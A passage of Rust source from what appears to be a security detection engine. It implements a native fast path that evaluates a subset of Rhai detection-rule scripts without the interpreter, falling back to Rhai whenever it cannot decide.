//! The native fast path: the pure part of a rule, evaluated without the Rhai interpreter.
//!
//! Most evaluations of a detection rule end without an alert: a leading guard such as
//! `if event.proc.action != "exec" { return; }` returns, or the final condition is false.
//! Interpreting that in Rhai costs 0.5–2 µs (variable lookups, function resolution, a
//! `Dynamic` per intermediate value). At load time each rule's statements are translated,
//! where they stay inside a small subset (`let`, `if`, `return;`, property chains on
//! `event`, literals, comparisons, `&&`/`||`/`!`/`??`, `in`, string methods, the script
//! functions `glob`, `re_match`, `cidr`, `entropy`, `in_list`, `enrich`, and the window
//! functions), into a tree this module evaluates directly. Everything else (`emit`, map
//! literals, `while`, `+=`, script functions...) becomes an opaque step.
//!
//! The contract is one-sided: [`FastPath::quiet`] returns `true` only when Rhai, run on
//! the same event, would finish without an alert or a failure, having made the same window
//! calls. Whenever the native evaluation meets an opaque step, a value of a type it does
//! not model, or anything Rhai would report as an error, it gives up and the rule runs in
//! Rhai from the start. The only side effects it has are window calls, made for real and
//! journaled (`context::WindowCall`): Rhai's own calls, which up to that point are the same
//! calls on the same state, replay the journaled results instead of recording the event
//! twice. Results therefore never depend on whether the fast path ran; `tests` below and
//! `tests/native` hold it to Rhai.

use std::borrow::Cow;
use std::rc::Rc;
use std::sync::Arc;

use regex::Regex;
use rhai::{
    ASTFlags, BinaryExpr, Dynamic, Expr, FlowControl, FnCallExpr, Ident, ImmutableString,
    OpAssignment, Stmt, AST, FLOAT, INT,
};
use smallvec::SmallVec;

use crate::context::{self, EventTime, HostData, WindowCall, WindowOp};
use crate::json::{same_text, Bump, Json};
use crate::limits::Limits;
use crate::matchers::{self, cidr_contains, entropy};
use crate::windows::{window_micros, WindowBounds};

/// The native form of a rule's statements, when that form can ever finish on its own.
pub struct FastPath {
    body: Vec<S>,
    max_string_size: usize,
    max_array_size: usize,
    /// Nodes loops may run in one evaluation (beyond the one pass every node is allowed)
    /// before the operation limit could be near.
    loop_budget: u64,
}

/// The native evaluation gave up: Rhai decides.
pub(crate) struct Fallback;

pub(crate) type R<T> = Result<T, Fallback>;

/// A constant of the rule's source.
#[derive(Clone, Debug)]
pub(crate) enum Lit {
    Unit,
    Bool(bool),
    Int(INT),
    Float(FLOAT),
    Str(ImmutableString),
    Arr(Vec<Lit>),
}

impl Lit {
    fn val(&self) -> Val<'_> {
        match self {
            Lit::Unit => Val::Unit,
            Lit::Bool(b) => Val::Bool(*b),
            Lit::Int(i) => Val::Int(*i),
            Lit::Float(f) => Val::Float(*f),
            Lit::Str(s) => Val::text(s.as_str()),
            Lit::Arr(items) => Val::Lits(items),
        }
    }
}

/// A value during evaluation; strings are borrowed from the event or the rule where they can be.
#[derive(Clone, Debug)]
pub(crate) enum Val<'a> {
    Unit,
    Bool(bool),
    Int(INT),
    Float(FLOAT),
    Str(Text<'a>),
    Arr(Rc<Vec<Val<'a>>>),
    /// An array constant of the rule's source.
    Lits(&'a [Lit]),
    /// The parts of a borrowed text split at one ASCII byte (`exe.split("/")`): counted
    /// and indexed in place, without an array (two allocations) built for them.
    Parts(&'a str, u8),
    /// A map or array of an enrichment table (what `enrich` found), read in place.
    Host(&'a Dynamic),
    /// A map or array read from the event: only passed along (`??`), never inspected.
    Other,
}

#[derive(Clone, Debug)]
pub(crate) enum Text<'a> {
    Ref(&'a str),
    Shared(ImmutableString),
}

impl std::ops::Deref for Text<'_> {
    type Target = str;

    fn deref(&self) -> &str {
        match self {
            Text::Ref(s) => s,
            Text::Shared(s) => s.as_str(),
        }
    }
}

impl<'a> Val<'a> {
    fn text(s: &'a str) -> Self {
        Val::Str(Text::Ref(s))
    }

    fn array_len(&self) -> Option<usize> {
        match self {
            Val::Arr(items) => Some(items.len()),
            Val::Lits(items) => Some(items.len()),
            Val::Parts(text, byte) => Some(text.bytes().filter(|b| b == byte).count() + 1),
            _ => None,
        }
    }

    fn array_get(&self, i: usize) -> Option<Val<'a>> {
        match self {
            Val::Arr(items) => items.get(i).cloned(),
            Val::Lits(items) => items.get(i).map(Lit::val),
            Val::Parts(text, byte) => nth_part(text, *byte, i).map(Val::text),
            _ => None,
        }
    }
}

enum S {
    Let(usize, X),
    Expr(X),
    If(X, Vec<S>, Vec<S>),
    Block(Vec<S>),
    /// `slot = value` for a `let` binding.
    Assign(usize, X),
    /// `for slot in from..to` / `from..=to` over integers; `nodes` is the body's size.
    For {
        slot: usize,
        from: X,
        to: X,
        inclusive: bool,
        body: Vec<S>,
        nodes: u64,
    },
    Return,
    /// Only Rhai can run this statement.
    Opaque,
}

pub(crate) enum X {
    Lit(Lit),
    Local(usize),
    /// A chain on the `event` variable: navigated in place, without copying maps.
    Event(EventChain),
    Chain(Box<X>, Vec<Step>),
    Array(Vec<X>),
    Not(Box<X>),
    Cmp(Cmp, Box<X>, Box<X>),
    /// `x == "text"` (`true`: `!=`), the commonest comparison: only a string can equal
    /// a string; `()` and every other type are unequal to it ([`compare`]).
    StrEq(bool, Box<X>, Box<str>),
    And(Vec<X>),
    Or(Vec<X>),
    Coalesce(Vec<X>),
    /// `a + b + c...` (left to right, as Rhai nests it): integers summed, or texts joined
    /// into one new string instead of one per `+`.
    Sum(Vec<X>),
    Sub(Box<X>, Box<X>),
    /// `needle in haystack`, Rhai's `contains(haystack, needle)`.
    Contains(Box<X>, Box<X>),
    /// `glob(text, "literal")` / `re_match(text, "literal")`, compiled at load.
    Matches(Box<X>, Arc<Regex>),
    /// A `glob` whose pattern is text and stars only at its ends (`/tmp/*`, `*.so`).
    Literal(Box<X>, Literal),
    Cidr(Box<X>, Box<X>),
    Entropy(Box<X>),
    InList(Box<X>, ImmutableString),
    /// `enrich(kind, key)`: a read of the host's tables (with the `enrich` capability).
    Enrich(Box<X>, Box<X>),
    /// `window_push(key)`, `window_count(key, seconds)`, `window_distinct(key, value,
    /// seconds)`: made for real, and journaled for Rhai to replay should it take over.
    Window(WindowOp, Box<X>, Option<Box<X>>, Option<Box<X>>),
    If(Box<X>, Box<X>, Box<X>),
}

/// A glob pattern without `?` or classes, and with stars only at either end, is a plain
/// string test: what its regex (`(?s)\A...\z`, `*` as `.*`) matches, without running it.
#[derive(Debug, PartialEq)]
pub(crate) enum Literal {
    Exact(String),
    Prefix(String),
    Suffix(String),
    Within(String),
}

impl Literal {
    fn of_glob(pattern: &str) -> Option<Literal> {
        let starts = pattern.starts_with('*');
        let inner = pattern.trim_start_matches('*');
        let ends = inner.ends_with('*');
        let inner = inner.trim_end_matches('*');
        if inner.is_empty() || inner.contains(['*', '?', '[']) {
            return None;
        }
        let text = inner.to_string();
        Some(match (starts, ends) {
            (false, false) => Literal::Exact(text),
            (false, true) => Literal::Prefix(text),
            (true, false) => Literal::Suffix(text),
            (true, true) => Literal::Within(text),
        })
    }

    fn test(&self, text: &str) -> bool {
        match self {
            Literal::Exact(l) => text == l,
            Literal::Prefix(l) => text.starts_with(l.as_str()),
            Literal::Suffix(l) => text.ends_with(l.as_str()),
            Literal::Within(l) => memchr::memmem::find(text.as_bytes(), l.as_bytes()).is_some(),
        }
    }
}

/// What a rule's fast path may touch besides the event: its own windows (through the
/// batch context) and, with the capability, the enrichment tables.
pub(crate) struct Side<'t> {
    /// The rule's index in the batch context's window list.
    pub rule: usize,
    pub bounds: WindowBounds,
    pub can_enrich: bool,
    /// The event's time, parsed on first use: only window calls need it.
    pub time: &'t dyn Fn() -> EventTime,
    /// Where strings the rule builds (`a + "|" + b`, `n.to_string()`) are put: emptied
    /// after each event, so building one is a pointer bump, and nothing is freed one by one.
    pub scratch: &'t Bump,
}

pub(crate) enum Step {
    Prop(ImmutableString),
    Index(X),
    Method(Method, Vec<X>),
    /// `.contains("text")`: a substring search prepared at load (std's `contains` set up
    /// its searcher again on every call), or array membership of the text.
    Find(Box<(memchr::memmem::Finder<'static>, ImmutableString)>),
}

#[derive(Clone, Copy)]
pub(crate) enum Method {
    Len,
    Split,
    ToLower,
    ToUpper,
    Contains,
    StartsWith,
    EndsWith,
    ToString,
}

#[derive(Clone, Copy)]
pub(crate) enum Cmp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

/// Rhai counts at least one operation per statement and expression node; a fast path is
/// only used when even four per node could not reach the rule's operation limit.
const OPERATIONS_PER_NODE: u64 = 4;
const OPERATIONS_MARGIN: u64 = 64;
/// Deeper trees are left to Rhai (keeps the native recursion shallow).
const MAX_DEPTH: usize = 48;

impl FastPath {
    /// Translate `ast`; `None` when no evaluation could finish natively (the first
    /// statement that always runs is opaque), or the rule defines script functions (which
    /// may shadow the functions evaluated here), or its limits are too tight to be sure.
    pub fn compile(ast: &AST, limits: &Limits, paths: &mut Paths) -> Option<FastPath> {
        if ast.has_functions() {
            return None;
        }
        let mut compiler = Compiler {
            names: Vec::new(),
            nodes: 0,
            max_array_size: limits.max_array_size,
            paths,
        };
        let body = compiler.block(ast.statements(), 0);
        let (returns, falls_through) = reach(&body);
        let budget = compiler
            .nodes
            .saturating_mul(OPERATIONS_PER_NODE)
            .saturating_add(OPERATIONS_MARGIN);
        if !(returns || falls_through) || budget > limits.max_operations {
            return None;
        }
        Some(FastPath {
            body,
            max_string_size: limits.max_string_size,
            max_array_size: limits.max_array_size,
            loop_budget: (limits.max_operations - budget) / OPERATIONS_PER_NODE,
        })
    }

    /// Whether the rule's leading guard (`if event.proc.action != "exec" { return; }`)
    /// returns on this event, read from the event's path cache: most of a kind's events are
    /// of some other action, and then the rule is decided without running at all.
    pub(crate) fn guard_returns<'e>(&self, event: &'e Json<'e>, cache: &PathCache<'e>) -> bool {
        let Some((chain, text)) = leading_guard(&self.body) else {
            return false;
        };
        match cached_slot(event, cache, chain) {
            // A string equal to the text passes; anything else (`()` included) is unequal.
            Some(Slot::At(Json::Str(s))) => !same_text(s, text),
            Some(Slot::At(_) | Slot::Unit) => true,
            // Reading the path is an error (Rhai reports it), or it is not cached.
            Some(Slot::Unknown | Slot::Fallback) | None => false,
        }
    }

    /// `true` when the rule, run by Rhai on `event`, would end without an alert or a
    /// failure (its window calls made, here, for real); `false` when Rhai has to run it,
    /// replaying the window calls journaled so far.
    pub(crate) fn quiet<'e, N: Node>(
        &self,
        event: &'e N,
        host: &HostData,
        side: &Side<'_>,
        cache: &PathCache<'e>,
    ) -> bool {
        let mut run = Run {
            fast: self,
            event,
            host,
            side,
            cache,
            locals: SmallVec::new(),
            loop_budget: self.loop_budget,
            journaled: 0,
        };
        let quiet = run.block(&self.body).is_ok();
        if quiet && run.journaled > 0 {
            // Done natively: no replay needed.
            let journaled = run.journaled;
            context::update(|ctx| {
                let keep = ctx.journal.len().saturating_sub(journaled);
                ctx.journal.truncate(keep);
            });
        }
        quiet
    }
}

/// `if <event path> != "text" { return; }` as the first statement, with nothing else in it.
fn leading_guard(body: &[S]) -> Option<(&EventChain, &str)> {
    let S::If(X::StrEq(true, x, text), then, otherwise) = body.first()? else {
        return None;
    };
    let X::Event(chain) = &**x else {
        return None;
    };
    let only_props = chain.props == chain.steps.len();
    (only_props && matches!(then[..], [S::Return]) && otherwise.is_empty()).then_some((chain, text))
}

/// (can it return, can it run past its end): whether a fast path can ever finish.
fn reach(block: &[S]) -> (bool, bool) {
    let mut returns = false;
    for statement in block {
        let (r, through) = match statement {
            S::Let(..) | S::Expr(_) | S::Assign(..) => (false, true),
            // A loop may run zero times.
            S::For { body, .. } => (reach(body).0, true),
            S::Return => (true, false),
            S::Opaque => (false, false),
            S::Block(inner) => reach(inner),
            S::If(_, then, otherwise) => {
                let (r1, t1) = reach(then);
                let (r2, t2) = reach(otherwise);
                (r1 || r2, t1 || t2)
            }
        };
        returns |= r;
        if !through {
            return (returns, false);
        }
    }
    (returns, true)
}

struct Compiler<'p> {
    /// The `let` bindings in scope, innermost last: name, and whether it is `const`
    /// (assigning one is Rhai's error to report). A binding's slot is its index.
    names: Vec<(ImmutableString, bool)>,
    nodes: u64,
    max_array_size: usize,
    paths: &'p mut Paths,
}

/// Numbers for the property paths on `event` (`proc.action`, `dns.query`...) that the
/// loaded rules' fast paths read, shared by all of them: an event's rules read the same
/// few fields again and again, and each path is navigated once per event ([`PathCache`]).
#[derive(Default)]
pub struct Paths {
    ids: crate::hashing::FastMap<Vec<ImmutableString>, u32>,
}

impl Paths {
    fn id(&mut self, props: &[ImmutableString]) -> Option<u32> {
        if let Some(id) = self.ids.get(props) {
            return Some(*id);
        }
        let id = u32::try_from(self.ids.len()).ok()?;
        self.ids.insert(props.to_vec(), id);
        Some(id)
    }

    /// How many paths are numbered: the size of an event's cache.
    pub fn len(&self) -> usize {
        self.ids.len()
    }

    pub fn is_empty(&self) -> bool {
        self.ids.is_empty()
    }
}

/// Where a numbered path leads in the current event, once some rule has followed it.
#[derive(Clone, Copy, Default)]
pub(crate) enum Slot<'a> {
    #[default]
    Unknown,
    At(&'a Json<'a>),
    /// A map without the last property: `()`.
    Unit,
    /// A property of something that is not a map: Rhai's error.
    Fallback,
}

/// The per-event cache of path ends, one cell per numbered path (empty for events that
/// are Rhai values, which are not cached).
pub(crate) type PathCache<'a> = [std::cell::Cell<Slot<'a>>];

/// A chain on the `event` variable: its leading properties (numbered, when there are any)
/// and then the rest of its steps.
pub(crate) struct EventChain {
    path: Option<u32>,
    props: usize,
    steps: Vec<Step>,
}

impl Compiler<'_> {
    fn block(&mut self, statements: &[Stmt], depth: usize) -> Vec<S> {
        let mark = self.names.len();
        let out = statements
            .iter()
            .map(|s| self.statement(s, depth + 1))
            .collect();
        self.names.truncate(mark);
        out
    }

    fn bind(&mut self, name: &ImmutableString, constant: bool) -> usize {
        self.names.push((name.clone(), constant));
        self.names.len() - 1
    }

    fn statement(&mut self, statement: &Stmt, depth: usize) -> S {
        self.nodes += 1;
        if depth > MAX_DEPTH {
            return S::Opaque;
        }
        match statement {
            Stmt::Noop(_) => S::Block(Vec::new()),
            Stmt::Var(var, flags, _) => {
                // The binding exists for later statements even when its value is opaque.
                let value = self.expr(&var.1, depth + 1);
                let slot = self.bind(&var.0.name, flags.intersects(ASTFlags::CONSTANT));
                match value {
                    Some(x) => S::Let(slot, x),
                    None => S::Opaque,
                }
            }
            Stmt::If(flow, _) => match self.expr(&flow.expr, depth + 1) {
                Some(condition) => S::If(
                    condition,
                    self.block(flow.body.statements(), depth),
                    self.block(flow.branch.statements(), depth),
                ),
                None => S::Opaque,
            },
            Stmt::Block(block) => S::Block(self.block(block.statements(), depth)),
            Stmt::Assignment(assignment) => self.assignment(assignment, depth).unwrap_or(S::Opaque),
            Stmt::For(each, _) => self.for_loop(each, depth).unwrap_or(S::Opaque),
            Stmt::Return(None, flags, _) if !flags.intersects(ASTFlags::BREAK) => S::Return,
            Stmt::Expr(expr) => self.expr(expr, depth + 1).map_or(S::Opaque, S::Expr),
            Stmt::FnCall(call, _) => self.call(call, depth + 1).map_or(S::Opaque, S::Expr),
            _ => S::Opaque,
        }
    }

    /// `name = value` to a `let` binding (not `+=` and the like, not to `event`).
    fn assignment(&mut self, assignment: &(OpAssignment, BinaryExpr), depth: usize) -> Option<S> {
        let (op, target) = assignment;
        if op.is_op_assignment() {
            return None;
        }
        let Expr::Variable(var, _, _) = &target.lhs else {
            return None;
        };
        let slot = self.names.iter().rposition(|(n, _)| *n == var.1)?;
        if self.names[slot].1 {
            return None;
        }
        Some(S::Assign(slot, self.expr(&target.rhs, depth + 1)?))
    }

    /// `for i in a..b { ... }` or `a..=b`: integer ranges only, no counter variable.
    fn for_loop(&mut self, each: &(Ident, Option<Ident>, FlowControl), depth: usize) -> Option<S> {
        let (var, counter, flow) = each;
        if counter.is_some() {
            return None;
        }
        let Expr::FnCall(range, _) = &flow.expr else {
            return None;
        };
        let inclusive = match (range.name.as_str(), range.op_token.is_some()) {
            ("..", true) => false,
            ("..=", true) => true,
            _ => return None,
        };
        let [from, to] = &range.args[..] else {
            return None;
        };
        let (from, to) = (self.expr(from, depth + 1)?, self.expr(to, depth + 1)?);
        let mark = self.names.len();
        let slot = self.bind(&var.name, false);
        let before = self.nodes;
        let body = self.block(flow.body.statements(), depth);
        let nodes = self.nodes - before + 1;
        self.names.truncate(mark);
        Some(S::For {
            slot,
            from,
            to,
            inclusive,
            body,
            nodes,
        })
    }

    fn boxed(&mut self, expr: &Expr, depth: usize) -> Option<Box<X>> {
        self.expr(expr, depth).map(Box::new)
    }

    fn all(&mut self, exprs: &[Expr], depth: usize) -> Option<Vec<X>> {
        exprs.iter().map(|e| self.expr(e, depth)).collect()
    }

    fn expr(&mut self, expr: &Expr, depth: usize) -> Option<X> {
        self.nodes += 1;
        if depth > MAX_DEPTH {
            return None;
        }
        let next = depth + 1;
        Some(match expr {
            Expr::Unit(_) => X::Lit(Lit::Unit),
            Expr::BoolConstant(b, _) => X::Lit(Lit::Bool(*b)),
            Expr::IntegerConstant(i, _) => X::Lit(Lit::Int(*i)),
            Expr::FloatConstant(f, _) => X::Lit(Lit::Float(**f)),
            Expr::StringConstant(s, _) => X::Lit(Lit::Str(s.clone())),
            Expr::DynamicConstant(d, _) => match literal(d)? {
                Lit::Arr(items) if items.len() > self.max_array_size => return None,
                value => X::Lit(value),
            },
            Expr::Array(items, _) => X::Array(self.all(items, next)?),
            Expr::Variable(var, _, _) => {
                let name = &var.1;
                match self.names.iter().rposition(|(n, _)| n == name) {
                    Some(slot) => X::Local(slot),
                    None if name.as_str() == "event" => X::Event(EventChain {
                        path: None,
                        props: 0,
                        steps: Vec::new(),
                    }),
                    None => return None,
                }
            }
            Expr::And(items, _) => X::And(self.all(items, next)?),
            Expr::Or(items, _) => X::Or(self.all(items, next)?),
            Expr::Coalesce(items, _) => X::Coalesce(self.all(items, next)?),
            Expr::FnCall(call, _) => self.call(call, next)?,
            Expr::Dot(..) | Expr::Index(..) => self.chain(expr, next)?,
            Expr::Stmt(block) => self.if_expression(block.statements(), next)?,
            _ => return None,
        })
    }

    /// `if c { a } else { b }` used as a value (each branch a single expression or empty).
    fn if_expression(&mut self, statements: &[Stmt], depth: usize) -> Option<X> {
        let [Stmt::If(flow, _)] = statements else {
            return None;
        };
        let condition = self.boxed(&flow.expr, depth)?;
        let then = self.branch_value(flow.body.statements(), depth)?;
        let otherwise = self.branch_value(flow.branch.statements(), depth)?;
        Some(X::If(condition, Box::new(then), Box::new(otherwise)))
    }

    fn branch_value(&mut self, statements: &[Stmt], depth: usize) -> Option<X> {
        match statements {
            [] => Some(X::Lit(Lit::Unit)),
            [Stmt::Expr(expr)] => self.expr(expr, depth),
            [Stmt::FnCall(call, _)] => self.call(call, depth),
            nested @ [Stmt::If(..)] => self.if_expression(nested, depth),
            _ => None,
        }
    }

    fn call(&mut self, call: &FnCallExpr, depth: usize) -> Option<X> {
        if call.capture_parent_scope {
            return None;
        }
        let args = &call.args[..];
        let operator = call.op_token.is_some();
        Some(match (call.name.as_str(), args) {
            ("!", [a]) if operator => X::Not(self.boxed(a, depth)?),
            ("==", [a, b]) if operator => self.compare(Cmp::Eq, a, b, depth)?,
            ("!=", [a, b]) if operator => self.compare(Cmp::Ne, a, b, depth)?,
            ("<", [a, b]) if operator => self.compare(Cmp::Lt, a, b, depth)?,
            ("<=", [a, b]) if operator => self.compare(Cmp::Le, a, b, depth)?,
            (">", [a, b]) if operator => self.compare(Cmp::Gt, a, b, depth)?,
            (">=", [a, b]) if operator => self.compare(Cmp::Ge, a, b, depth)?,
            ("+", [a, b]) if operator => {
                let mut items = match self.expr(a, depth)? {
                    X::Sum(items) => items,
                    a => vec![a],
                };
                items.push(self.expr(b, depth)?);
                X::Sum(items)
            }
            ("-", [a, b]) if operator => X::Sub(self.boxed(a, depth)?, self.boxed(b, depth)?),
            ("contains", [haystack, needle]) => {
                X::Contains(self.boxed(haystack, depth)?, self.boxed(needle, depth)?)
            }
            ("glob", [text, Expr::StringConstant(pattern, _)]) => {
                // Compiled even when a literal test replaces it: a pattern Rhai would
                // reject must not be decided here.
                let regex = matchers::compile_glob(pattern).ok()?;
                let text = self.boxed(text, depth)?;
                match Literal::of_glob(pattern) {
                    Some(literal) => X::Literal(text, literal),
                    None => X::Matches(text, regex),
                }
            }
            ("re_match", [text, Expr::StringConstant(pattern, _)]) => X::Matches(
                self.boxed(text, depth)?,
                matchers::compile_regex(pattern).ok()?,
            ),
            ("cidr", [ip, network]) => X::Cidr(self.boxed(ip, depth)?, self.boxed(network, depth)?),
            ("entropy", [text]) => X::Entropy(self.boxed(text, depth)?),
            ("in_list", [value, Expr::StringConstant(name, _)]) => {
                X::InList(self.boxed(value, depth)?, name.clone())
            }
            ("enrich", [kind, key]) => X::Enrich(self.boxed(kind, depth)?, self.boxed(key, depth)?),
            ("window_push", [key]) => {
                X::Window(WindowOp::Push, self.boxed(key, depth)?, None, None)
            }
            ("window_count", [key, seconds]) => X::Window(
                WindowOp::Count,
                self.boxed(key, depth)?,
                None,
                Some(self.boxed(seconds, depth)?),
            ),
            ("window_distinct", [key, value, seconds]) => X::Window(
                WindowOp::Distinct,
                self.boxed(key, depth)?,
                Some(self.boxed(value, depth)?),
                Some(self.boxed(seconds, depth)?),
            ),
            _ => return None,
        })
    }

    fn compare(&mut self, op: Cmp, a: &Expr, b: &Expr, depth: usize) -> Option<X> {
        let (a, b) = (self.expr(a, depth)?, self.expr(b, depth)?);
        Some(match (op, a, b) {
            (Cmp::Eq | Cmp::Ne, x, X::Lit(Lit::Str(text)))
            | (Cmp::Eq | Cmp::Ne, X::Lit(Lit::Str(text)), x) => {
                X::StrEq(matches!(op, Cmp::Ne), Box::new(x), text.as_str().into())
            }
            (op, a, b) => X::Cmp(op, Box::new(a), Box::new(b)),
        })
    }

    /// `a.b[c].d(e)`: Rhai nests a chain to the right (`Dot(a, Index(b, Dot(c, d(e))))`,
    /// the parent's kind saying how the child's left side applies, `BREAK` ending it).
    fn chain(&mut self, expr: &Expr, depth: usize) -> Option<X> {
        let (Expr::Dot(binary, flags, _) | Expr::Index(binary, flags, _)) = expr else {
            return None;
        };
        let mut steps = Vec::new();
        let mut dotting = matches!(expr, Expr::Dot(..));
        let mut stop = flags.intersects(ASTFlags::BREAK);
        if flags.intersects(ASTFlags::NEGATED) {
            return None;
        }
        let mut rest = &binary.rhs;
        loop {
            self.nodes += 1;
            match rest {
                Expr::Dot(inner, flags, _) | Expr::Index(inner, flags, _) if !stop => {
                    if flags.intersects(ASTFlags::NEGATED) {
                        return None;
                    }
                    steps.push(self.step(&inner.lhs, dotting, depth)?);
                    dotting = matches!(rest, Expr::Dot(..));
                    stop = flags.intersects(ASTFlags::BREAK);
                    rest = &inner.rhs;
                }
                last => {
                    steps.push(self.step(last, dotting, depth)?);
                    break;
                }
            }
        }
        Some(match self.expr(&binary.lhs, depth)? {
            X::Event(mut chain) => {
                chain.steps.append(&mut steps);
                let names: Vec<ImmutableString> = chain
                    .steps
                    .iter()
                    .map_while(|step| match step {
                        Step::Prop(name) => Some(name.clone()),
                        _ => None,
                    })
                    .collect();
                chain.props = names.len();
                chain.path = if names.is_empty() {
                    None
                } else {
                    self.paths.id(&names)
                };
                X::Event(chain)
            }
            base => X::Chain(Box::new(base), steps),
        })
    }

    fn step(&mut self, expr: &Expr, dotting: bool, depth: usize) -> Option<Step> {
        if !dotting {
            return Some(Step::Index(self.expr(expr, depth)?));
        }
        match expr {
            Expr::Property(prop, _) => Some(Step::Prop(prop.2.clone())),
            Expr::MethodCall(call, _) => {
                let method = match (call.name.as_str(), call.args.len()) {
                    ("len", 0) => Method::Len,
                    ("split", 1) => Method::Split,
                    ("to_lower", 0) => Method::ToLower,
                    ("to_upper", 0) => Method::ToUpper,
                    ("contains", 1) => Method::Contains,
                    ("starts_with", 1) => Method::StartsWith,
                    ("ends_with", 1) => Method::EndsWith,
                    ("to_string", 0) => Method::ToString,
                    _ => return None,
                };
                if let (Method::Contains, [Expr::StringConstant(text, _)]) =
                    (method, &call.args[..])
                {
                    let finder = memchr::memmem::Finder::new(text.as_bytes()).into_owned();
                    return Some(Step::Find(Box::new((finder, text.clone()))));
                }
                Some(Step::Method(method, self.all(&call.args, depth)?))
            }
            _ => None,
        }
    }
}

/// A constant the optimizer folded (arrays of literals, mostly).
fn literal(value: &Dynamic) -> Option<Lit> {
    if value.is_array() {
        let array = value.as_array_ref().ok()?;
        let items: Option<Vec<Lit>> = array.iter().map(literal).collect();
        return Some(Lit::Arr(items?));
    }
    Some(match scalar(value) {
        Val::Unit => Lit::Unit,
        Val::Bool(b) => Lit::Bool(b),
        Val::Int(i) => Lit::Int(i),
        Val::Float(f) => Lit::Float(f),
        Val::Str(Text::Shared(s)) => Lit::Str(s),
        _ => return None,
    })
}

/// A Rhai value as the fast path models it (maps and arrays stay where they are).
fn scalar(value: &Dynamic) -> Val<'static> {
    if let Ok(s) = value.as_immutable_string_ref() {
        return Val::Str(Text::Shared(s.clone()));
    }
    if let Ok(i) = value.as_int() {
        return Val::Int(i);
    }
    if let Ok(b) = value.as_bool() {
        return Val::Bool(b);
    }
    if let Ok(f) = value.as_float() {
        return Val::Float(f);
    }
    if value.is_unit() {
        return Val::Unit;
    }
    Val::Other
}

/// An event the fast path can read: parsed JSON (borrowed strings), or a Rhai value.
pub(crate) trait Node: Sized {
    /// Follow `chain` through the event's own maps and arrays, copying only the end value.
    fn navigate<'a, 'e: 'a>(
        &'e self,
        run: &mut Run<'a, 'e, Self>,
        chain: &'a EventChain,
    ) -> R<Val<'a>>;

    /// Where a chain of properties only leads, from the event's path cache: `None` when
    /// this kind of event has no cache (then [`Node::navigate`] decides).
    fn cached<'e>(&'e self, _cache: &PathCache<'e>, _chain: &EventChain) -> Option<Slot<'e>> {
        None
    }
}

impl Node for Json<'_> {
    fn cached<'e>(&'e self, cache: &PathCache<'e>, chain: &EventChain) -> Option<Slot<'e>> {
        if chain.props != chain.steps.len() {
            return None;
        }
        cached_slot(self, cache, chain)
    }

    fn navigate<'a, 'e: 'a>(
        &'e self,
        run: &mut Run<'a, 'e, Self>,
        chain: &'a EventChain,
    ) -> R<Val<'a>> {
        let Some(slot) = cached_slot(self, run.cache, chain) else {
            return navigate_json(self, run, &chain.steps);
        };
        let rest = &chain.steps[chain.props..];
        match slot {
            // Most chains are properties only (`event.proc.exe`): their end is the value.
            Slot::At(node) if rest.is_empty() => Ok(match node {
                Json::Map(_) | Json::Array(_) => Val::Other,
                scalar => json_scalar(scalar),
            }),
            Slot::At(node) => navigate_json(node, run, rest),
            Slot::Unit => run.apply_all(Val::Unit, rest),
            Slot::Unknown | Slot::Fallback => Err(Fallback),
        }
    }
}

/// Where `chain`'s leading properties lead in this event: from the cache, or followed
/// once and cached; `None` when the chain has no number or the event no cache.
/// Inlined: it runs for every property read of every rule (as a call it cost ~200
/// instructions per event).
#[inline(always)]
fn cached_slot<'e>(
    root: &'e Json<'e>,
    cache: &PathCache<'e>,
    chain: &EventChain,
) -> Option<Slot<'e>> {
    let cell = cache.get(chain.path? as usize)?;
    Some(match cell.get() {
        Slot::Unknown => {
            let slot = follow(root, &chain.steps[..chain.props]);
            cell.set(slot);
            slot
        }
        known => known,
    })
}

/// Where the properties `props` lead from `root`, as [`navigate_json`] would find it.
fn follow<'a>(root: &'a Json<'a>, props: &[Step]) -> Slot<'a> {
    let mut at = root;
    for (i, step) in props.iter().enumerate() {
        let (Step::Prop(name), Json::Map(_)) = (step, at) else {
            return Slot::Fallback;
        };
        match at.get(name.as_str()) {
            Some(child) => at = child,
            // A missing last property reads as `()`; a property of `()` is an error.
            None if i + 1 == props.len() => return Slot::Unit,
            None => return Slot::Fallback,
        }
    }
    Slot::At(at)
}

fn navigate_json<'a, 'e: 'a, N: Node>(
    root: &'a Json<'_>,
    run: &mut Run<'a, 'e, N>,
    steps: &'a [Step],
) -> R<Val<'a>> {
    let mut at = root;
    for (i, step) in steps.iter().enumerate() {
        let next = match (step, at) {
            (Step::Prop(name), Json::Map(_)) => match at.get(name.as_str()) {
                Some(child) => child,
                // A missing property of a map reads as `()`.
                None => return run.apply_all(Val::Unit, &steps[i + 1..]),
            },
            (Step::Index(index), Json::Array(items)) => {
                let index = match run.eval(index)? {
                    Val::Int(i) => usize::try_from(i).map_err(|_| Fallback)?,
                    _ => return Err(Fallback),
                };
                items.get(index).ok_or(Fallback)?
            }
            (_, Json::Map(_) | Json::Array(_)) => return Err(Fallback),
            _ => return run.apply_all(json_scalar(at), &steps[i..]),
        };
        at = next;
    }
    Ok(match at {
        Json::Map(_) | Json::Array(_) => Val::Other,
        scalar => json_scalar(scalar),
    })
}

fn json_scalar<'a>(value: &'a Json<'_>) -> Val<'a> {
    match value {
        Json::Unit => Val::Unit,
        Json::Bool(b) => Val::Bool(*b),
        Json::Int(i) => Val::Int(*i),
        Json::Float(f) => Val::Float(*f),
        Json::Str(s) => Val::text(s),
        Json::Array(_) | Json::Map(_) => Val::Other,
    }
}

impl Node for Dynamic {
    fn navigate<'a, 'e: 'a>(
        &'e self,
        run: &mut Run<'a, 'e, Self>,
        chain: &'a EventChain,
    ) -> R<Val<'a>> {
        walk(self, run, &chain.steps)
    }
}

/// Rhai's maps are behind read guards, so a Rhai value is walked recursively, each guard
/// alive while its child is read; the value at the end owns what it keeps (`Text::Shared`).
fn walk<'a, 'e: 'a, N: Node>(
    child: &Dynamic,
    run: &mut Run<'a, 'e, N>,
    steps: &'a [Step],
) -> R<Val<'a>> {
    match steps.first() {
        None if child.is_map() || child.is_array() => Ok(Val::Other),
        None => Ok(scalar(child)),
        Some(Step::Prop(name)) => {
            let map = child.as_map_ref().map_err(|_| Fallback)?;
            match map.get(name.as_str()) {
                Some(grandchild) => walk(grandchild, run, &steps[1..]),
                None => run.apply_all(Val::Unit, &steps[1..]),
            }
        }
        Some(Step::Index(index)) if child.is_array() => {
            let index = match run.eval(index)? {
                Val::Int(i) => usize::try_from(i).map_err(|_| Fallback)?,
                _ => return Err(Fallback),
            };
